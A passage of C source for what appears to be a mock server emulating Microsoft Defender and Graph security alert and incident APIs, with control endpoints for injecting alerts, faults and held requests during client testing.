	int64_t	 ms = TICKS_PER_SEC / 1000, now = ts_now() / ms * ms;

	/* Whole milliseconds, as printed: every version its own time. */
	in->lut = now > in->lut ? now : in->lut + ms;
	t->iver = xreallocarray(t->iver, t->niver + 1, sizeof *t->iver);
	t->iver[t->niver].num = in->num;
	t->iver[t->niver].lut = in->lut;
	t->niver++;
}

static void
inc_new(struct tenant *t)
{
	struct finc	*in;
	size_t		 k, n;

	t->inc = xreallocarray(t->inc, t->ninc + 1, sizeof *t->inc);
	in = &t->inc[t->ninc];
	memset(in, 0, sizeof *in);
	in->num = (unsigned)++t->ninc;
	in->created = ts_now() / (TICKS_PER_SEC / 1000) * (TICKS_PER_SEC / 1000);
	in->sev = 1 + (int)rng_below(&F.rng, 4);
	n = t->n == 0 ? 0 : 1 + rng_below(&F.rng, 3);
	in->alerts = xcalloc(n ? n : 1, sizeof *in->alerts);
	for (k = 0; k < n; k++)
		in->alerts[in->nalerts++] = xstrdup(
		    t->v[rng_below(&F.rng, t->n)]->id);
	inc_version(t, in);
}

static void
inc_time(struct buf *b, int64_t t)
{
	char	 s[40];

	ts_text(t, 3, s);
	json_str(b, s);
}

static void
inc_alerts_json(struct buf *b, const struct finc *in)
{
	size_t	 k;

	buf_addc(b, '[');
	for (k = 0; k < in->nalerts; k++) {
		buf_adds(b, k > 0 ? ",{" : "{");
		buf_adds(b, "\"@odata.type\":\"#microsoft.graph.security.alert\","
		    "\"id\":");
		json_str(b, in->alerts[k]);
		buf_addf(b, ",\"incidentId\":\"%u\"}", in->num);
	}
	buf_addc(b, ']');
}

static void
inc_json(struct buf *b, const struct tenant *t, const struct finc *in,
    bool expand)
{
	buf_addf(b, "{\"id\":\"%u\",\"tenantId\":", in->num);
	json_str(b, t->name);
	buf_addf(b, ",\"displayName\":\"Multi-stage incident %u on %s\","
	    "\"description\":\"Incident %u of tenant %s\",\"createdDateTime\":",
	    in->num, t->name, in->num, t->name);
	inc_time(b, in->created);
	buf_adds(b, ",\"lastUpdateDateTime\":");
	inc_time(b, in->lut);
	buf_addf(b, ",\"severity\":\"%s\",\"status\":\"%s\","
	    "\"classification\":\"unknown\",\"determination\":\"unknown\","
	    "\"assignedTo\":null,\"incidentWebUrl\":\"https://security."
	    "microsoft.com/incidents/%u?tid=", sev_graph[in->sev],
	    inc_status[in->status], in->num);
	buf_adds(b, t->name);
	buf_adds(b, "\",\"redirectIncidentId\":");
	if (in->redirect != 0)
		buf_addf(b, "\"%u\"", in->redirect);
	else
		buf_adds(b, "null");
	if (expand) {
		buf_adds(b, ",\"alerts\":");
		inc_alerts_json(b, in);
	}
	buf_addc(b, '}');
}

static int
inc_cmp(const void *a, const void *b)
{
	const struct finc *x = *(const struct finc *const *)a;
	const struct finc *y = *(const struct finc *const *)b;

	if (x->lut != y->lut)
		return x->lut < y->lut ? -1 : 1;
	return x->num < y->num ? -1 : x->num > y->num;
}

/* Read the incidents query; an error message or NULL. */
static const char *
inc_query(const struct query *q, struct odata *od, char *err, size_t len)
{
	static const char	*ok[] = { "$filter", "$top", "$skip",
	    "$skiptoken", "$orderby", "$expand" };
	const char		*v;

	memset(od, 0, sizeof *od);
	err[0] = '\0';
	od->top = INC_TOP_MAX;
	if (odata_names(q, ok, nitems(ok), err, len) != 0)
		return err;
	if ((v = query_get(q, "$filter")) != NULL && odata_filter(v,
	    "lastUpdateDateTime", "createdDateTime", od, err, len) != 0)
		return err;
	if ((v = query_get(q, "$top")) != NULL && (odata_size(v, &od->top) !=
	    0 || od->top > INC_TOP_MAX || od->top == 0)) {
		snprintf(err, len, "The limit of '%d' for Top query has been "
		    "exceeded. The value from the incoming request is '%s'.",
		    INC_TOP_MAX, v);
		return err;
	}
	if ((v = query_get(q, "$orderby")) != NULL &&
	    strcmp(v, "lastUpdateDateTime asc") != 0) {
		snprintf(err, len, "Unsupported $orderby '%s'.", v);
		return err;
	}
	if ((v = query_get(q, "$expand")) != NULL && strcmp(v, "alerts") != 0) {
		snprintf(err, len, "Unsupported $expand '%s'.", v);
		return err;
	}
	od->expand = v != NULL;
	if ((v = query_get(q, "$skip")) != NULL && odata_size(v, &od->skip)) {
		snprintf(err, len, "Invalid value '%s' for $skip.", v);
		return err;
	}
	if ((v = query_get(q, "$skiptoken")) != NULL &&
	    skiptoken_parse(v, od) != 0) {
		snprintf(err, len, "Invalid $skiptoken.");
		return err;
	}
	return NULL;
}

/*
 * GET /v1.0/security/incidents/{id}/alerts: every alert, or with
 * --link-page N pages of N chained by @odata.nextLink ($skip).
 */
static void
inc_alerts_cb(struct call *c, struct tenant *t, const char *id,
    const struct query *q, const char *path)
{
	struct buf	 b, link;
	struct finc	 part;
	char		 extra[32];
	size_t		 i;
	int		 skip;

	for (i = 0; i < t->ninc; i++)
		if ((unsigned)strtoul(id, NULL, 10) == t->inc[i].num &&
		    t->inc[i].num != 0)
			break;
	if (i == t->ninc) {
		reply_error(c, 404, "NotFound", "Incident not found.");
		return;
	}
	if ((skip = arg_int(query_get(q, "$skip"), 0)) < 0) {
		reply_error(c, 400, "BadRequest", "Invalid $skip.");
		return;
	}
	part = t->inc[i];
	part.alerts += (size_t)skip < part.nalerts ? (size_t)skip :
	    part.nalerts;
	part.nalerts -= (size_t)(part.alerts - t->inc[i].alerts);
	buf_init(&b);
	buf_adds(&b, "{");
	if (F.link_page > 0 && part.nalerts > F.link_page) {
		part.nalerts = F.link_page;
		snprintf(extra, sizeof extra, "$skip=%zu",
		    (size_t)skip + F.link_page);
		buf_init(&link);
		next_link(&link, c, q, path, extra, NULL);
		buf_adds(&b, "\"@odata.nextLink\":");
		json_str(&b, link.data);
		buf_addc(&b, ',');
		buf_clear(&link);
	}
	buf_adds(&b, "\"value\":");
	inc_alerts_json(&b, &part);
	buf_addc(&b, '}');
	reply(c, 200, buf_to_evbuffer(&b));
}

/* GET /v1.0/security/incidents[/{id}/alerts] */
static void
inc_list_cb(struct call *c, const char *path, const struct query *q)
{
	struct tenant	 *t;
	struct odata	  od;
	struct finc	**v;
	struct buf	  b, link, tokb;
	char		  err[512], tok[64], *extra;
	const char	 *rest;
	size_t		  i, n = 0, end;

	c->api = API_GRAPH;
	if ((t = api_enter(c)) == NULL)
		return;
	rest = path + strlen("/v1.0/security/incidents");
	if (*rest == '/') {
		char *id = xstrndup(rest + 1, strcspn(rest + 1, "/"));

		if (strcmp(rest + 1 + strlen(id), "/alerts") == 0)
			inc_alerts_cb(c, t, id, q, path);
		else
			reply_error(c, 404, "NotFound", "No such resource.");
		free(id);
		return;
	}
	if (inc_query(q, &od, err, sizeof err) != NULL) {
		reply_error(c, 400, "BadRequest", err);
		return;
	}
	if (od.expand && t->nexpand500 > 0) {
		t->nexpand500--;
		reply_error(c, 500, "generalException", "An unexpected error "
		    "occurred while expanding alerts.");
		return;
	}
	v = xcalloc(t->ninc + 1, sizeof *v);
	for (i = 0; i < t->ninc; i++)
		if (bound_match(&od.lut, t->inc[i].lut) &&
		    bound_match(&od.created, t->inc[i].created))
			v[n++] = &t->inc[i];
	qsort(v, n, sizeof *v, inc_cmp);
	end = od.skip + od.top < n ? od.skip + od.top : n;
	buf_init(&b);
	buf_adds(&b, "{\"@odata.context\":\"https://graph.microsoft.com/v1.0/"
	    "$metadata#security/incidents\"");
	if (end < n) {
		snprintf(tok, sizeof tok, "fc1:%zu:0", end);
		buf_init(&tokb);
		b64u_enc(&tokb, tok, strlen(tok));
		xasprintf(&extra, "$skiptoken=%.*s", (int)tokb.len, tokb.data);
		buf_init(&link);
		next_link(&link, c, q, path, extra, NULL);
		buf_adds(&b, ",\"@odata.nextLink\":");
		json_str(&b, link.data);
		buf_clear(&link);
		buf_clear(&tokb);
		free(extra);
	}
	buf_adds(&b, ",\"value\":[");
	for (i = od.skip; i < end; i++) {
		if (i > od.skip)
			buf_addc(&b, ',');
		inc_json(&b, t, v[i], od.expand);
	}
	buf_adds(&b, "]}");
	free(v);
	reply(c, 200, buf_to_evbuffer(&b));
}

/*
 * Control API.
 */

static void
reply_text(struct call *c, int code, const char *type, struct buf *b)
{
	evhttp_add_header(evhttp_request_get_output_headers(c->req),
	    "Content-Type", type);
	reply(c, code, buf_to_evbuffer(b));
}

static void
reply_ctl_error(struct call *c, int code, const char *msg)
{
	struct buf	 b;

	buf_init(&b);
	buf_adds(&b, "{\"error\":");
	json_str(&b, msg);
	buf_adds(&b, "}");
	reply_text(c, code, "application/json", &b);
}

/* The tenants named by "tenant=" ("*" for all); NULL and a reply if none. */
static struct tenant **
ctl_tenants(struct call *c, const struct query *q, size_t *n)
{
	const char	*name = query_get(q, "tenant");
	struct tenant	**v, *t;

	if (name != NULL && strcmp(name, "*") == 0) {
		*n = F.ntenants;
		v = xreallocarray(NULL, F.ntenants, sizeof *v);
		memcpy(v, F.tenants, F.ntenants * sizeof *v);
		return v;
	}
	if (name == NULL || (t = tenant_find(name)) == NULL) {
		reply_ctl_error(c, 404, "unknown tenant");
		return NULL;
	}
	*n = 1;
	v = xmalloc(sizeof *v);
	v[0] = t;
	return v;
}

/* Read a control body object into raw overrides on a. */
static int
ctl_body(struct alert *a, const char *body, size_t len)
{
	struct jscan	 js;
	struct jstr	 key;
	const char	*v;
	unsigned	 n = 0;
	int		 r;

	jscan_init(&js, body, len);
	if (jscan_peek(&js) == -1)
		return 0;
	if (jscan_open(&js, '{') != 0)
		return -1;
	while ((r = jscan_member(&js, &n, &key)) == 1) {
		jscan_peek(&js);
		v = js.p;
		if (jscan_skip(&js) != 0)
			return -1;
		ovr_set(a, key.p, key.len, v, js.p - v);
	}
	if (r != 0 || jscan_end(&js) != 0)
		return -1;
	return 0;
}

/* Apply parsed time overrides to the alert's ordering fields. */
static void
ctl_times(struct alert *a)
{
	const struct ovr	*o;
	const char		*p;
	size_t			 n;
	int64_t			 t;

	if ((o = ovr_find(a, "lastUpdateTime")) != NULL &&
	    ovr_plain(o, &p, &n) && ts_parse(p, n, &t) == 0)
		a->lut = t;
	if ((o = ovr_find(a, "alertCreationTime")) != NULL &&
	    ovr_plain(o, &p, &n) && ts_parse(p, n, &t) == 0)
		a->created = t;
	if ((o = ovr_find(a, "id")) != NULL && ovr_plain(o, &p, &n) &&
	    n < sizeof a->id) {
		memcpy(a->id, p, n);
		a->id[n] = '\0';
	}
}

/*
 * POST /_control/alerts?tenant=T&n=N[&late=SECS][&visible=now]
 * [&FIELD=VALUE]
 */
static void
ctl_alerts(struct call *c, const struct query *q)
{
	static const char *skip[] = { "tenant", "n", "late", "visible" };
	const char	*vis = query_get(q, "visible");
	struct evbuffer	*in = evhttp_request_get_input_buffer(c->req);
	struct tenant	**ts;
	struct alert	*a;
	struct buf	 b, val;
	const char	*body;
	size_t		 nt, i, k, j, blen, added = 0;
	int		 n, late;

	if ((n = arg_int(query_get(q, "n"), 1)) < 0 ||
	    (late = arg_int(query_get(q, "late"), 0)) < 0) {
		reply_ctl_error(c, 400, "bad n or late");
		return;
	}
	if ((ts = ctl_tenants(c, q, &nt)) == NULL)
		return;
	blen = evbuffer_get_length(in);
	body = (const char *)evbuffer_pullup(in, -1);
	buf_init(&b);
	buf_init(&val);
	buf_adds(&b, "{\"ids\":[");
	for (i = 0; i < nt; i++) {
		for (k = 0; k < (size_t)n; k++) {
			a = alert_new(ts[i], ts_now());
			for (j = 0; j < q->n; j++) {
				if (strcmp(q->p[j].k, skip[0]) == 0 ||
				    strcmp(q->p[j].k, skip[1]) == 0 ||
				    strcmp(q->p[j].k, skip[2]) == 0 ||
				    strcmp(q->p[j].k, skip[3]) == 0)
					continue;
				buf_reset(&val);
				json_strn(&val, q->p[j].v, q->p[j].vlen);
				ovr_set(a, q->p[j].k, strlen(q->p[j].k),
				    val.data, val.len);
			}
			if (ctl_body(a, body, blen) != 0) {
				alert_free(a);
				buf_clear(&b);
				buf_clear(&val);
				free(ts);
				reply_ctl_error(c, 400, "body is not a JSON "
				    "object");
				return;
			}
			ctl_times(a);
			if (added < 1000) {
				if (added > 0)
					buf_addc(&b, ',');
				json_str(&b, a->id);
			}
			added++;
			/* visible=now: even when stamped in the future. */
			alert_schedule(a, vis != NULL && strcmp(vis, "now") ==
			    0 ? ts_now() : a->lut + late * TICKS_PER_SEC);
		}
	}
	buf_addf(&b, "],\"added\":%zu}", added);
	buf_clear(&val);
	free(ts);
	reply_text(c, 200, "application/json", &b);
}

/* POST /_control/update?tenant=T[&id=ID][&n=N] */
static void
ctl_update(struct call *c, const struct query *q)
{
	struct tenant	**ts, *t;
	struct alert	*a;
	struct buf	 b;
	const char	*id = query_get(q, "id");
	size_t		 nt, i, k, done = 0;
	int		 n;
	char		*lut;

	if ((n = arg_int(query_get(q, "n"), 1)) < 0) {
		reply_ctl_error(c, 400, "bad n");
		return;
	}
	if ((ts = ctl_tenants(c, q, &nt)) == NULL)
		return;
	if (id != NULL)
		n = 1;
	buf_init(&b);
	buf_adds(&b, "{\"updated\":[");
	for (i = 0; i < nt; i++) {
		t = ts[i];
		for (k = 0; k < (size_t)n && t->n > 0; k++) {
			if (id != NULL)
				a = alert_find(t, id);
			else
				a = t->v[rng_below(&F.rng, t->n)];
			if (a == NULL)
				break;
			alert_bump(a);
			lut = alert_lut_json(a);
			buf_adds(&b, done++ > 0 ? ",[" : "[");
			alert_id_json(&b, a);
			buf_addf(&b, ",%s]", lut);
			free(lut);
		}
	}
	free(ts);
	buf_adds(&b, "]}");
	if (id != NULL && done == 0) {
		buf_clear(&b);
		reply_ctl_error(c, 404, "no visible alert with that id");
		return;
	}
	reply_text(c, 200, "application/json", &b);
}

/* POST /_control/fault?tenant=T&kind=K[&arg=A] */
static void
ctl_fault(struct call *c, const struct query *q)
{
	struct tenant	**ts;
	const char	*kind = query_get(q, "kind");
	size_t		 nt, i;
	struct buf	 b;

	if (kind == NULL) {
		reply_ctl_error(c, 400, "kind is missing");
		return;
	}
	if ((ts = ctl_tenants(c, q, &nt)) == NULL)
		return;
	for (i = 0; i < nt; i++) {
		if (fault_set(ts[i], kind, query_get(q, "arg")) != 0) {
			free(ts);
			reply_ctl_error(c, 400, "unknown fault kind or bad "
			    "arg");
			return;
		}
	}
	free(ts);
	buf_init(&b);
	buf_adds(&b, "{\"ok\":true}");
	reply_text(c, 200, "application/json", &b);
}

/* GET /_control/stats */
static void
ctl_stats(struct call *c)
{
	struct tenant	*t;
	struct buf	 b;
	size_t		 i, alerts = 0, versions = 0;
	int		 first = 1;

	for (i = 0; i < F.ntenants; i++) {
		alerts += F.tenants[i]->n;
		versions += F.tenants[i]->nver;
	}
	buf_init(&b);
	buf_addf(&b, "{\"requests\":%" PRIu64 ",\"token_requests\":%" PRIu64
	    ",\"api_requests\":%" PRIu64 ",\"alerts_total\":%zu,"
	    "\"versions_total\":%zu,\"pending_late\":%zu,\"generated\":%"
	    PRIu64 ",\"updated\":%" PRIu64 ",\"status\":{", F.requests,
	    F.token_requests, F.api_requests, alerts, versions, F.npend,
	    F.generated, F.updated);
	for (i = 0; i < nitems(F.status); i++) {
		if (F.status[i] == 0)
			continue;
		buf_addf(&b, "%s\"%zu\":%" PRIu64, first ? "" : ",", i,
		    F.status[i]);
		first = 0;
	}
	buf_addf(&b, "},\"accept_encoding\":%" PRIu64 ",\"tenants\":{",
	    F.accept_encoding);
	for (i = 0; i < F.ntenants; i++) {
		t = F.tenants[i];
		buf_addf(&b, "%s\"%s\":{\"requests\":%" PRIu64 ",\"token_"
		    "requests\":%" PRIu64 ",\"alerts\":%zu,\"versions\":%zu}",
		    i > 0 ? "," : "", t->name, t->requests, t->token_requests,
		    t->n, t->nver);
	}
	buf_adds(&b, "}}");
	reply_text(c, 200, "application/json", &b);
}

/*
 * GET /_control/log: the kept request lines, oldest first; with ua=1
 * each line ends with the request's User-Agent (blanks as '_').
 */
static void
ctl_log(struct call *c, const struct query *q)
{
	struct evbuffer	*out = evbuffer_new();
	size_t		 i, k;
	const char	*ua = query_get(q, "ua"), *tok = query_get(q, "tok");
	bool		 with_ua = ua != NULL && strcmp(ua, "1") == 0;
	bool		 with_tok = tok != NULL && strcmp(tok, "1") == 0;

	for (k = 0; k < F.log_n; k++) {
		i = (F.log_i + LOG_KEEP - F.log_n + k) % LOG_KEEP;
		evbuffer_add_printf(out, "%s", F.log[i]);
		if (with_ua)
			evbuffer_add_printf(out, " %s", F.log_ua[i]);
		if (with_tok)
			evbuffer_add_printf(out, " %s", F.log_tok[i]);
		evbuffer_add(out, "\n", 1);
	}
	evhttp_add_header(evhttp_request_get_output_headers(c->req),
	    "Content-Type", "text/plain; charset=utf-8");
	reply(c, 200, out);
}

/*
 * GET /_control/versions?tenant=T: every [id, lastUpdateTime] made
 * visible, in that order; with current=1 only the current versions.
 */
static void
ctl_versions(struct call *c, const struct query *q)
{
	struct tenant	*t;
	struct buf	 b;
	const char	*cur = query_get(q, "current");
	char		*lut;
	size_t		 i;

	if ((t = tenant_find(query_get(q, "tenant") ?: "")) == NULL) {
		reply_ctl_error(c, 404, "unknown tenant");
		return;
	}
	buf_init(&b);
	buf_reserve(&b, t->nver * 72 + 4);
	buf_addc(&b, '[');
	if (cur != NULL && strcmp(cur, "1") == 0) {
		for (i = 0; i < t->n; i++) {
			buf_adds(&b, i > 0 ? ",[" : "[");
			alert_id_json(&b, t->v[i]);
			lut = alert_lut_json(t->v[i]);
			buf_addf(&b, ",%s]", lut);
			free(lut);
		}
	} else {
		for (i = 0; i < t->nver; i++) {
			buf_adds(&b, i > 0 ? ",[" : "[");
			alert_id_json(&b, t->ver[i].a);
			buf_addf(&b, ",%s]", t->ver[i].lut);
		}
	}
	buf_addc(&b, ']');
	reply_text(c, 200, "application/json", &b);
}

/* POST /_control/incidents?tenant=T&n=N: N new incidents. */
static void
ctl_incidents(struct call *c, const struct query *q)
{
	struct tenant	**ts;
	struct buf	 b;
	size_t		 nt, i, k;
	int		 n;

	if ((n = arg_int(query_get(q, "n"), 1)) < 0) {
		reply_ctl_error(c, 400, "bad n");
		return;
	}
	if ((ts = ctl_tenants(c, q, &nt)) == NULL)
		return;
	buf_init(&b);
	buf_adds(&b, "{\"created\":[");
	for (i = 0; i < nt; i++)
		for (k = 0; k < (size_t)n; k++) {
			inc_new(ts[i]);
			buf_addf(&b, "%s\"%u\"", i + k > 0 ? "," : "",
			    ts[i]->inc[ts[i]->ninc - 1].num);
		}
	free(ts);
	buf_adds(&b, "]}");
	reply_text(c, 200, "application/json", &b);
}

/* POST /_control/incident-update?tenant=T&id=N[&into=M] */
static void
ctl_incident_update(struct call *c, const struct query *q)
{
	struct tenant	*t;
	struct finc	*in;
	struct buf	 b;
	unsigned	 id = (unsigned)arg_int(query_get(q, "id"), 0);
	unsigned	 into = (unsigned)arg_int(query_get(q, "into"), 0);

	if ((t = tenant_find(query_get(q, "tenant") ?: "")) == NULL ||
	    id == 0 || id > t->ninc || into > t->ninc || into == id) {
		reply_ctl_error(c, 404, "unknown tenant or incident");
		return;
	}
	in = &t->inc[id - 1];
	if (into != 0) {
		in->redirect = into;
		in->status = 2;
	} else if (in->status < 2)
		in->status++;
	inc_version(t, in);
	buf_init(&b);
	buf_addf(&b, "{\"id\":\"%u\",\"lastUpdateDateTime\":", id);
	inc_time(&b, in->lut);
	buf_addc(&b, '}');
	reply_text(c, 200, "application/json", &b);
}

/*
 * GET /_control/incident-versions?tenant=T: every [id,
 * lastUpdateDateTime] shown, in order.
 */
static void
ctl_incident_versions(struct call *c, const struct query *q)
{
	struct tenant	*t;
	struct buf	 b;
	size_t		 i;

	if ((t = tenant_find(query_get(q, "tenant") ?: "")) == NULL) {
		reply_ctl_error(c, 404, "unknown tenant");
		return;
	}
	buf_init(&b);
	buf_addc(&b, '[');
	for (i = 0; i < t->niver; i++) {
		buf_addf(&b, "%s[\"%u\",", i > 0 ? "," : "", t->iver[i].num);
		inc_time(&b, t->iver[i].lut);
		buf_addc(&b, ']');
	}
	buf_addc(&b, ']');
	reply_text(c, 200, "application/json", &b);
}

/*
 * Held requests.  POST /_control/hold arms a hold for the next N token or
 * alerts requests of a tenant; such a request gets no answer until POST
 * /_control/release dispatches it as if it had just arrived.  A client
 * that gives up meanwhile (closes the connection) marks it "cancelled".
 */

static void	request_cb(struct evhttp_request *, void *);

static void
held_closed_cb(struct evhttp_connection *evcon, void *arg)
{
	struct held	*h = arg;

	log_debug("held %s %s of %s: client closed the connection", h->what,
	    h->uri, h->tenant);
	h->state = "cancelled";
	/* A request evhttp detached from the dead connection is ours. */
	if (evhttp_request_get_connection(h->req) == NULL)
		evhttp_request_free(h->req);
	h->req = NULL;
	h->evcon = NULL;
}

/* Which hold-able request this is: "token" or "alerts", and its tenant. */
static const char *
hold_kind(struct evhttp_request *req, const char *path, char **tname)
{
	const char	*rest, *auth;
	struct tokinfo	 ti;

	if ((rest = strchr(path + 1, '/')) != NULL &&
	    strcmp(rest, "/oauth2/v2.0/token") == 0) {
		*tname = url_decode(path + 1, rest - path - 1, NULL);
		return "token";
	}
	if (strncmp(path, "/api/", 5) != 0 &&
	    strstr(path, "/security/alerts_v2") == NULL &&
	    strstr(path, "/security/incidents") == NULL)
		return NULL;
	auth = evhttp_find_header(evhttp_request_get_input_headers(req),
	    "Authorization");
	if (auth == NULL || strncasecmp(auth, "Bearer ", 7) != 0 ||
	    token_check(auth + 7, &ti) != NULL)
		return NULL;
	*tname = xstrdup(ti.t->name);
	return "alerts";
}

/* Hold req if an armed hold matches it; true when held. */
static bool
hold_maybe(struct evhttp_request *req, const char *path)
{
	struct hold_arm	*a = NULL;
	struct held	*h;
	const char	*what;
	char		*tname = NULL;
	size_t		 i;

	if ((what = hold_kind(req, path, &tname)) == NULL)
		return false;
	for (i = 0; a == NULL && i < F.narms; i++)
		if (F.arms[i].n > 0 && strcmp(F.arms[i].what, what) == 0 &&
		    (strcmp(F.arms[i].tenant, "*") == 0 ||
		    strcmp(F.arms[i].tenant, tname) == 0) &&
		    (F.arms[i].match == NULL || strstr(evhttp_request_get_uri(
		    req), F.arms[i].match) != NULL))
			a = &F.arms[i];
	if (a == NULL) {
		free(tname);
		return false;
	}
	a->n--;
	h = xcalloc(1, sizeof *h);
	h->req = req;
	h->evcon = evhttp_request_get_connection(req);
	h->tenant = tname;
	h->what = what;
	h->uri = xstrdup(evhttp_request_get_uri(req));
	h->state = "held";
	F.held = xreallocarray(F.held, F.nheld + 1, sizeof *F.held);
	F.held[F.nheld++] = h;
	evhttp_connection_set_closecb(h->evcon, held_closed_cb, h);
	log_debug("holding %s %s of %s", what, h->uri, tname);
	return true;
}

/*
 * evhttp does not read a connection whose request awaits its answer, so
 * a client giving up on a held request is noticed here, every tick.
 */
static void
held_poll(void)
{
	struct held	*h;
	char		 c;
	size_t		 i;
	ssize_t		 r;
	int		 fd;

	for (i = 0; i < F.nheld; i++) {
		h = F.held[i];
		if (strcmp(h->state, "held") != 0 || h->evcon == NULL)
			continue;
		fd = bufferevent_getfd(evhttp_connection_get_bufferevent(
		    h->evcon));
		r = fd == -1 ? 0 : recv(fd, &c, 1, MSG_PEEK | MSG_DONTWAIT);
		if (r > 0 || (r == -1 && (errno == EAGAIN ||
		    errno == EWOULDBLOCK || errno == EINTR)))
			continue;
		log_debug("held %s %s of %s: client closed the connection",
		    h->what, h->uri, h->tenant);
		h->state = "cancelled";
		evhttp_connection_set_closecb(h->evcon, NULL, NULL);
		evhttp_connection_free(h->evcon);	/* and the request */
		h->req = NULL;
		h->evcon = NULL;
	}
}

static void
held_free_all(void)
{
	size_t	 i;

	for (i = 0; i < F.nheld; i++) {
		free(F.held[i]->tenant);
		free(F.held[i]->uri);
		free(F.held[i]);
	}
	free(F.held);
	for (i = 0; i < F.narms; i++) {
		free(F.arms[i].tenant);
		free(F.arms[i].match);
	}
	free(F.arms);
}

/* POST /_control/hold?tenant=T&what=token|alerts[&n=N][&match=S] */
static void
ctl_hold(struct call *c, const struct query *q)
{
	const char	*tn = query_get(q, "tenant"), *w = query_get(q, "what");
	struct buf	 b;
	int		 n = arg_int(query_get(q, "n"), 1);

	if (tn == NULL || (strcmp(tn, "*") != 0 && tenant_find(tn) == NULL) ||
	    w == NULL || (strcmp(w, "token") != 0 && strcmp(w, "alerts") !=
	    0) || n < 1) {
		reply_ctl_error(c, 400, "hold needs tenant=T|*, "
		    "what=token|alerts and n >= 1");
		return;
	}
	F.arms = xreallocarray(F.arms, F.narms + 1, sizeof *F.arms);
	F.arms[F.narms].tenant = xstrdup(tn);
	F.arms[F.narms].what = strcmp(w, "token") == 0 ? "token" : "alerts";
	F.arms[F.narms].match = query_get(q, "match") != NULL ?
	    xstrdup(query_get(q, "match")) : NULL;
	F.arms[F.narms++].n = n;
	buf_init(&b);
	buf_adds(&b, "{\"ok\":true}");
	reply_text(c, 200, "application/json", &b);
}

static bool
hold_matches(const char *tenant, const char *what, const char *tq,
    const char *wq)
{
	return (tq == NULL || strcmp(tq, "*") == 0 || strcmp(tq, tenant) ==
	    0) && (wq == NULL || strcmp(wq, what) == 0);
}

/* POST /_control/release[?tenant=T][&what=W]: answer them now, disarm. */
static void
ctl_release(struct call *c, const struct query *q)
{
	const char	*tq = query_get(q, "tenant"), *wq = query_get(q, "what");
	struct held	*h;
	struct buf	 b;
	size_t		 i, n = 0, nheld = F.nheld;

	held_poll();	/* a request its client gave up is not answered */
	for (i = 0; i < F.narms; i++)
		if (hold_matches(F.arms[i].tenant, F.arms[i].what, tq, wq))
			F.arms[i].n = 0;
	for (i = 0; i < nheld; i++) {
		h = F.held[i];
		if (strcmp(h->state, "held") != 0 ||
		    !hold_matches(h->tenant, h->what, tq, wq))
			continue;
		h->state = "released";
		evhttp_connection_set_closecb(h->evcon, NULL, NULL);
		log_debug("releasing %s %s of %s", h->what, h->uri, h->tenant);
		F.unheld = h->req;
		h->req = NULL;
		request_cb(F.unheld, NULL);
		F.unheld = NULL;
		n++;
	}
	buf_init(&b);
	buf_addf(&b, "{\"released\":%zu}", n);
	reply_text(c, 200, "application/json", &b);
}

/* GET /_control/held: every request held so far and the armed holds. */
static void
ctl_held(struct call *c)
{
	struct buf	 b;
	size_t		 i;

	buf_init(&b);
	buf_adds(&b, "{\"held\":[");
	for (i = 0; i < F.nheld; i++) {
		buf_adds(&b, i > 0 ? ",{\"tenant\":" : "{\"tenant\":");
		json_str(&b, F.held[i]->tenant);
		buf_addf(&b, ",\"what\":\"%s\",\"state\":\"%s\",\"uri\":",
		    F.held[i]->what, F.held[i]->state);
		json_str(&b, F.held[i]->uri);
		buf_addc(&b, '}');
	}
	buf_adds(&b, "],\"armed\":[");
	for (i = 0; i < F.narms; i++) {
		buf_adds(&b, i > 0 ? ",{\"tenant\":" : "{\"tenant\":");
		json_str(&b, F.arms[i].tenant);
		buf_addf(&b, ",\"what\":\"%s\",\"n\":%d}", F.arms[i].what,
		    F.arms[i].n);
	}
	buf_adds(&b, "]}");
	reply_text(c, 200, "application/json", &b);
}

static void
control_cb(struct call *c, const char *what, const struct query *q)
{
	bool	 post;

	c->api = API_CONTROL;
	post = evhttp_request_get_command(c->req) == EVHTTP_REQ_POST;
	if (post && strcmp(what, "alerts") == 0)
		ctl_alerts(c, q);
	else if (post && strcmp(what, "update") == 0)
		ctl_update(c, q);
	else if (post && strcmp(what, "fault") == 0)
		ctl_fault(c, q);
	else if (!post && strcmp(what, "stats") == 0)
		ctl_stats(c);
	else if (!post && strcmp(what, "log") == 0)
		ctl_log(c, q);
	else if (!post && strcmp(what, "versions") == 0)
		ctl_versions(c, q);
	else if (post && strcmp(what, "incidents") == 0)
		ctl_incidents(c, q);
	else if (post && strcmp(what, "incident-update") == 0)
		ctl_incident_update(c, q);
	else if (!post && strcmp(what, "incident-versions") == 0)
		ctl_incident_versions(c, q);
	else if (post && strcmp(what, "hold") == 0)
		ctl_hold(c, q);
	else if (post && strcmp(what, "release") == 0)
		ctl_release(c, q);
	else if (!post && strcmp(what, "held") == 0)
		ctl_held(c);
	else
		reply_ctl_error(c, 404, "no such control endpoint or method");
}

/* Route every request by path. */
static void
request_cb(struct evhttp_request *req, void *arg)
{
	const struct evhttp_uri	*uri = evhttp_request_get_evhttp_uri(req);
	const char		*path, *qs, *rest;
	struct call		 c;
	struct query		 q;
	char			*tname;
	size_t			 n;

	memset(&c, 0, sizeof c);
	c.req = req;
	path = evhttp_uri_get_path(uri);
	if (path == NULL || *path == '\0')
		path = "/";
	qs = evhttp_uri_get_query(uri);
	if (query_parse(qs ?: "", qs ? strlen(qs) : 0, &q) != 0) {
		query_clear(&q);
		c.api = API_MDE;
		reply_error(&c, 400, "ODataError", "Too many query "
		    "parameters.");
		return;
	}
	if (strncmp(path, "/_control/", 10) != 0 && evhttp_find_header(
	    evhttp_request_get_input_headers(req), "Accept-Encoding") != NULL)
		F.accept_encoding++;
	if (req != F.unheld && F.narms > 0 && hold_maybe(req, path)) {
		query_clear(&q);
		return;
	}
	if (strncmp(path, "/_control/", 10) == 0)
		control_cb(&c, path + 10, &q);
	else if ((strncmp(path, "/api/", 5) == 0 ||
	    strstr(path, "/security/alerts_v2") != NULL) &&
	    evhttp_request_get_command(req) != EVHTTP_REQ_GET) {
		c.api = strncmp(path, "/api/", 5) == 0 ? API_MDE : API_GRAPH;
		reply_error(&c, 405, "MethodNotAllowed", "The requested "
		    "resource does not support this HTTP method.");
	} else if (strcmp(path, "/api/alerts") == 0 ||
	    strcmp(path, "/api/v1.0/alerts") == 0)
		mde_list_cb(&c, path, &q, NULL);
	else if (strncmp(path, "/api/alerts/", 12) == 0 ||
	    strncmp(path, "/api/v1.0/alerts/", 17) == 0) {
		rest = strrchr(path, '/') + 1;
		tname = url_decode(rest, strlen(rest), NULL);
		mde_list_cb(&c, path, &q, tname);
		free(tname);
	} else if (strcmp(path, "/v1.0/security/alerts_v2") == 0 ||
	    strcmp(path, "/beta/security/alerts_v2") == 0)
